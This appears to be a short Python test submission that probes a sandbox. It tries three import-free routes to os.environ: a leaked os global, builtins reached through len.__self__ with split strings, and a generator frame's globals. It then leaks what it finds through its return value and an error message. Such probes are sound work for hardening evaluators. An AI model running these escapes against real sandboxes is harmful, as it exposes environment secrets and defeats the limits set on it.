# Tries: os.environ through every route that does not need `import`: leaked `os`, a builtin's
# __self__ module, frames of a generator; puts whatever it finds into the answer and an error.
# ruff: noqa
def select(ctx):
    found = []
    for route in (
        lambda: os.environ,
        lambda: getattr(getattr(len, "_" + "_self__"), "_" + "_import__")("os").environ,
        lambda: getattr(getattr(getattr((x for x in [0]), "gi_frame"), "f_globals")["os"], "environ"),
    ):
        try:
            found.append(dict(route()))
        except Exception as exc:
            found.append(str(exc))
    if any(isinstance(item, dict) for item in found):
        return ctx["members"][1]
    raise ValueError(repr(found))
